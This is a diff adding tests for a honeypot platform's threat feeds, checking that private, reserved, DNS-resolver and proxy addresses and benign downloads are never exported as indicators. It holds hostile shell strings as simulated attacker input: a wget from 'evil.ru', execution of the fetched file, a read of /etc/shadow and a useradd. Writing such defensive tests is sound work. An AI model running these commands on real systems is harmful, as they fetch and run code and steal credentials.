@@ -1,0 +1,157 @@
+import type { CanaryTokenDetail, FeedExplanation } from '@eviltwin/contract'
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
+import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
+
+const ATTACK = 'wget http://evil.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l; useradd q'
+const FORMATS = ['json', 'csv', 'stix', 'misp']
+
+describe.each(inject('postgresServers'))('poisoned intelligence on $version', (server) => {
+  let api: TestPlatform
+  let token: string
+  beforeAll(async () => {
+    api = await startTestPlatform(server)
+    token = await api.login()
+  })
+  afterAll(() => api.close())
+
+  const event = (source_ip: string, more: object = { command: ATTACK }) => ({
+    source_ip,
+    session: source_ip,
+    occurred_at: new Date().toISOString(),
+    ...more,
+  })
+  async function send(...events: object[]): Promise<void> {
+    const response = await api.send(JSON.stringify(events))
+    expect(await response.json()).toMatchObject({ accepted: events.length, quarantined: 0 })
+  }
+  /** Everything that any export says, of all levels. */
+  async function exported(platform = api, as = token): Promise<string> {
+    const paths = [
+      '/feeds/blocklist.txt?threat_level=low',
+      '/feeds/stix?threat_level=low',
+      ...FORMATS.map((format) => `/feeds/iocs?format=${format}&threat_level=low`),
+    ]
+    const answers = await Promise.all(paths.map((path) => platform.call(path, { as })))
+    expect(answers.map(({ status }) => status)).toEqual(paths.map(() => 200))
+    return (await Promise.all(answers.map((answer) => answer.text()))).join('\n')
+  }
+  const explanationOf = async (value: string) =>
+    (await (
+      await api.call(`/feeds/explain?value=${encodeURIComponent(value)}`, { as: token })
+    ).json()) as FeedExplanation
+
+  test('one key cannot list what is never blocked', async () => {
+    const sources = [
+      '0.0.0.0',
+      '::1',
+      '10.0.0.1',
+      '224.0.0.1',
+      '8.8.4.4',
+      '255.255.255.255',
+      'fe80::1',
+      '203.0.113.5',
+    ]
+    await send(event('45.9.148.3'), ...sources.map((source) => event(source)))
+    expect(await (await api.call('/feeds/blocklist.txt', { as: token })).text()).toBe('45.9.148.3\n')
+    const text = await exported()
+    expect(text).toContain('45.9.148.3')
+    for (const source of sources) expect(text).not.toContain(source)
+    expect(await explanationOf('8.8.4.4')).toMatchObject({
+      listed: false,
+      indicator: {
+        context: true,
+        reason: 'never listed: 8.8.4.4 is in "Public DNS resolvers and root servers"',
+      },
+    })
+  })
+
+  test('what is typed into a honeypot names nobody in a feed, nor does a download from a popular site', async () => {
+    const command = `${ATTACK}; wget https://www.google.com/a; curl http://8.8.8.8/ http://10.20.30.40/ http://45.9.148.77/z`
+    await send(
+      event('45.9.148.3', { command }),
+      event('45.9.148.3', { event_type: 'file_download', url: 'https://www.google.com/a' }),
+      event('45.9.148.3', { event_type: 'file_download', url: 'http://10.20.30.40/' }),
+      event('45.9.148.3', { event_type: 'file_download', url: 'http://0x08080808/' }),
+      event('45.9.148.3', { event_type: 'file_download', url: 'http://evil.ru/failed', outcome: 'failure' }),
+      event('45.9.148.3', { event_type: 'file_download', url: 'http://evil.ru/x' }),
+      event('45.9.148.3', { event_type: 'proxy_request', url: 'tcp://45.9.148.88:25' }),
+    )
+    const text = await exported()
+    expect(text).toContain('http://evil.ru/x')
+    for (const named of [
+      'google.com',
+      '8.8.8.8',
+      '0x08080808',
+      '10.20.30.40',
+      '45.9.148.77',
+      '45.9.148.88',
+      '/failed',
+    ])
+      expect(text).not.toContain(named)
+  })
+
+  test('the visit of a canary without TRUST_PROXY does not list the proxy', async () => {
+    const created = await api.call('/canary/tokens', {
+      method: 'POST',
+      as: token,
+      body: JSON.stringify({ kind: 'link', name: 'a decoy' }),
+    })
+    const { url, id } = (await created.json()) as CanaryTokenDetail
+    await api.call(new URL(url).pathname, { headers: { 'x-forwarded-for': '45.9.148.99' } })
+    const hits = await api.call(`/canary/tokens/${id}/hits`, { as: token })
+    expect(JSON.stringify(await hits.json())).toContain('127.0.0.1')
+    expect(await exported()).not.toContain('127.0.0.1')
+    expect(await explanationOf('127.0.0.1')).toMatchObject({ listed: false, indicator: { context: true } })
+  })
+
+  describe('corroboration', () => {
+    let strict: TestPlatform
+    beforeAll(async () => {
+      strict = await startTestPlatform(server, {
+        beside: api,
+        environment: { FEEDS_MIN_SENSORS: '2', FEEDS_MIN_KEYS: '2' },
+      })
+    })
+    afterAll(() => strict.close())
+
+    const keyOf = async (sensor_id: string) => {
+      const created = await api.call('/api-keys', {
+        method: 'POST',
+        as: token,
+        body: JSON.stringify({ name: sensor_id, scopes: ['ingest'], sensor_id }),
+      })
+      return ((await created.json()) as { key: string }).key
+    }
+    const blocklist = async () => (await strict.call('/feeds/blocklist.txt', { as: token })).text()
+
+    test('one sensor, and two sensors of unbound keys, list nothing; two keys do', async () => {
+      const [east, west] = [await keyOf('east'), await keyOf('west')]
+      const sendAs = (key: string, more: object) =>
+        api.call('/log', { method: 'POST', as: key, body: JSON.stringify(event('45.9.148.50', more)) })
+      await sendAs('a-sensor-key-for-tests', { command: ATTACK, sensor_id: 'claimed-1' })
+      await sendAs('a-sensor-key-for-tests', { command: ATTACK, sensor_id: 'claimed-2' })
+      expect(await blocklist()).toBe('')
+      await sendAs(east, { command: ATTACK, sensor_id: 'east' })
+      const etag = (await strict.call('/feeds/blocklist.txt', { as: token })).headers.get('etag') ?? ''
+      // The two claimed sensors count as one key, and `east` as another one.
+      expect(await blocklist()).toBe('45.9.148.50\n')
+      await sendAs(west, { command: ATTACK, sensor_id: 'west' })
+      const changed = await strict.call('/feeds/blocklist.txt', {
+        as: token,
+        headers: { 'if-none-match': etag },
+      })
+      expect(changed.status).toBe(200)
+      expect(await explanationOf('45.9.148.50')).toMatchObject({
+        indicator: { sensor_count: 4, key_count: 3 },
+      })
+    })
+
+    test('a score below FEEDS_MIN_SCORE lists nothing, whatever level is asked for', async () => {
+      await send(event('45.9.148.60', { command: 'uptime' }))
+      expect(await exported()).not.toContain('45.9.148.60')
+      const path = '/feeds/explain?value=45.9.148.60&threat_level=low'
+      const explanation = (await (await api.call(path, { as: token })).json()) as FeedExplanation
+      expect(explanation.checks.find(({ passed }) => !passed)).toMatchObject({ check: 'score' })
+    })
+  })
+})
